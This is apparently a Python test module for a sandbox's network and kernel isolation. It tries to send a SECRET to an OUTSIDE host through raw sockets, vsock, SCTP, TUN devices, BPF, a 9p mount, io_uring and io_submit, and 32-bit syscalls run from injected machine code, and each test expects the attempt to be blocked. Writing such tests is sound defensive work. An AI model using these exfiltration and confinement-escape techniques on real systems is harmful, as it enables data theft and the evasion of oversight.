"""Leaving by other families of sockets, by devices, and by work that the kernel does for the program."""

import contextlib
import ctypes
import os
import platform
import socket
import stat
import struct

from tests.tracing.leaks import FAIL, INCONCLUSIVE, OUTSIDE, PORT, SECRET, attempt, leak, not_here, path, phase
from tests.tracing.leaks import wait_until
from tests.tracing.leaks.internet import sockaddr, udp
from tests.tracing.leaks.syscalls import libc, syscall

DCCP, IPPROTO_DCCP, IPPROTO_SCTP, ETH_P_IP = 6, 33, 132, 0x0800
BPF_MAP_CREATE = 0
TUN = os.makedev(10, 200)


# Sockets

@leak(FAIL)
def raw_icmp() -> None:
    with attempt(), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.sendto(b"\x08\0\0\0\0\0\0\0" + SECRET, (OUTSIDE, 0))


@leak(FAIL)
def raw_header() -> None:
    """The packet's own header says where it goes."""
    with attempt(), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(bytes([0x45]) + bytes(15) + socket.inet_aton(OUTSIDE) + SECRET, ("127.0.0.1", 0))


@leak(FAIL)
def packet() -> None:
    with attempt(), socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as s:
        s.sendto(SECRET, ("lo", ETH_P_IP))


@leak(FAIL)
def netlink_route() -> None:
    with attempt(), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as s:
        s.send(struct.pack("=IHHIIB15x", 32, 18, 0x301, 1, 0, 0))  # RTM_GETLINK


@leak(FAIL)
def vsock() -> None:
    """To the machine's host. A namespace would not keep it from getting there: a flag that no kernel knows does."""
    with attempt(), socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        address = struct.pack("=HHIIB3x", socket.AF_VSOCK, 0, PORT, 2, 0x80)
        libc.connect(s.fileno(), address, len(address))


@leak(FAIL)
def sctp() -> None:
    with attempt(), socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_SCTP) as s:
        s.connect((OUTSIDE, PORT))


@leak(FAIL)
def dccp() -> None:
    with attempt(), socket.socket(socket.AF_INET, DCCP, IPPROTO_DCCP) as s:
        s.connect((OUTSIDE, PORT))


# Devices

@leak(FAIL)
def tun() -> None:
    with attempt():
        os.close(os.open("/dev/net/tun", os.O_RDWR))


@leak(FAIL)
def tun_by_own_node() -> None:
    """The same device by another name."""
    try:
        os.mknod(path("node"), stat.S_IFCHR | 0o600, TUN)
    except PermissionError:
        not_here("this user may not make device nodes")
    with attempt():
        os.close(os.open(path("node"), os.O_RDWR))


@leak(FAIL)
def kernel_log() -> None:
    """A line that the machine's log daemon picks up, and may send on."""
    with attempt():
        os.close(os.open("/dev/kmsg", os.O_WRONLY))


@leak(FAIL)
def helper_of_the_kernel() -> None:
    """The kernel starts what stands there when a program crashes. (Opened only: the file is the machine's.)"""
    with attempt():
        os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))


# Code in the kernel

@leak(FAIL)
def bpf() -> None:
    with attempt():
        array = ctypes.create_string_buffer(struct.pack("=IIII", 2, 4, 4, 1), 128)
        os.close(syscall("bpf", BPF_MAP_CREATE, array, 128))


@leak(FAIL)
def module() -> None:
    with attempt():
        syscall("finit_module", -1, b"", 0)


@leak(FAIL)
def mount() -> None:
    """The kernel connects to a file server."""
    os.mkdir(path("mounted"))
    with attempt():
        syscall("mount", OUTSIDE.encode(), path("mounted").encode(), b"9p", 0, f"trans=tcp,port={PORT}".encode())


@leak(FAIL)
def name_of_a_key() -> None:
    """The kernel starts a program, in the machine's own namespace, that asks for a name's address. Without the third
    argument it only looks for the key: a test must not get farther."""
    with attempt():
        syscall("request_key", b"dns_resolver", SECRET, None, -1)


# Work that is done without further calls

class Ring:
    """An io_uring, to submit one operation after the other."""

    SQPOLL, POPULATE = 2, 0x8001
    CONNECT, SEND, SOCKET = 16, 26, 45

    def __init__(self, flags: int = 0):
        self.parameters = ctypes.create_string_buffer(struct.pack("=IIIII", 0, 0, flags, 0, 60_000), 120)
        self.flags, self.n = flags, 0
        self.fd = syscall("io_uring_setup", 4, self.parameters)
        sizes = struct.unpack_from("=II", self.parameters)
        self._sq = struct.unpack_from("=10I", self.parameters, 40)
        self._cq = struct.unpack_from("=10I", self.parameters, 80)
        self._submitted = self._map(0, self._sq[6] + sizes[0] * 4)
        self._completed = self._map(0x8000000, self._cq[5] + sizes[1] * 16)
        self._entries = self._map(0x10000000, sizes[0] * 64)

    def _map(self, offset: int, size: int) -> int:
        return libc.mmap(None, size, 3, self.POPULATE, self.fd, offset)

    def do(self, operation: int, fd: int, offset: int = 0, address: int = 0, length: int = 0) -> int:
        """Its result: an errno below 0, or what the call of that name returns."""
        slot = self.n & 3
        entry = struct.pack("=BBHiQQI28x", operation, 0, 0, fd, offset, address, length)
        ctypes.memmove(self._entries + slot * 64, entry, 64)
        ctypes.c_uint.from_address(self._submitted + self._sq[6] + slot * 4).value = slot
        self.n += 1
        ctypes.c_uint.from_address(self._submitted + self._sq[1]).value = self.n
        if not self.flags & self.SQPOLL:
            syscall("io_uring_enter", self.fd, 1, 1, 1, None, 0)
        tail = ctypes.c_uint.from_address(self._completed + self._cq[1])
        wait_until(lambda: tail.value == self.n or self._sleeps(), "the ring")
        if tail.value != self.n:
            raise OSError("the kernel's thread sleeps, and only a call would wake it")
        mask = ctypes.c_uint.from_address(self._completed + self._cq[2]).value
        return ctypes.c_int.from_address(self._completed + self._cq[5] + ((self.n - 1) & mask) * 16 + 8).value

    def _sleeps(self) -> bool:
        """Some kernels' polling threads sleep at once, whatever they are asked for."""
        return bool(self.flags & self.SQPOLL and ctypes.c_uint.from_address(self._submitted + self._sq[4]).value & 1)

    def leave(self) -> None:
        """Make a socket, connect it, send: without a call of those names."""
        fd = self.do(self.SOCKET, socket.AF_INET, socket.SOCK_DGRAM)
        name = ctypes.create_string_buffer(sockaddr(OUTSIDE, PORT))
        data = ctypes.create_string_buffer(SECRET)
        self.do(self.CONNECT, fd, 16, ctypes.addressof(name))
        self.do(self.SEND, fd, 0, ctypes.addressof(data), len(SECRET))


def ring(flags: int = 0) -> Ring:
    try:
        return Ring(flags)
    except OSError as error:
        not_here(f"io_uring: {error.strerror}")
        raise


@leak(FAIL, arrives=True)
def io_uring() -> None:
    with attempt():
        ring().leave()


@leak(INCONCLUSIVE)
def io_uring_of_load() -> None:
    """Set up while that is allowed; a thread of the kernel then works without any call."""
    phase("load")
    polled = ring(Ring.SQPOLL)
    phase("serving")
    with attempt():
        polled.leave()


@leak(FAIL, arrives=True)
def asynchronous_write() -> None:
    """io_submit writes to a connected socket."""
    context, data = ctypes.c_ulong(0), ctypes.create_string_buffer(SECRET)
    with contextlib.suppress(OSError):
        syscall("io_setup", 1, ctypes.byref(context))
    with udp() as s, attempt():
        s.connect((OUTSIDE, PORT))
        block = struct.pack("=QIIHhIQQqQII", 0, 0, 0, 1, 0, s.fileno(), ctypes.addressof(data), len(SECRET), 0, 0, 0, 0)
        held = ctypes.create_string_buffer(block, 64)
        syscall("io_submit", context.value, 1, ctypes.byref(ctypes.c_void_p(ctypes.addressof(held))))


# Calls of another kind

@leak(FAIL)
def calls_of_32_bit() -> None:
    """int 0x80: other numbers for the same calls."""
    if platform.machine() != "x86_64":
        not_here("no x86-64")
    low = libc.mmap(None, 4096, 7, 0x62, -1, 0)  # MAP_32BIT: i386 pointers are short
    # push rbx; mov eax, edi; mov ebx, esi; mov r8d, edx; mov edx, ecx; mov ecx, r8d; int 0x80; pop rbx; ret
    ctypes.memmove(low, bytes.fromhex("53 89f8 89f3 4189d0 89ca 4489c1 cd80 5b c3"), 17)
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(low)
    fd = call(359, socket.AF_INET, socket.SOCK_STREAM, 0)
    if fd < 0:
        not_here("the kernel takes no 32-bit calls")
    ctypes.memmove(low + 64, sockaddr(OUTSIDE, PORT), 16)
    with attempt():
        call(362, fd, low + 64, 16)
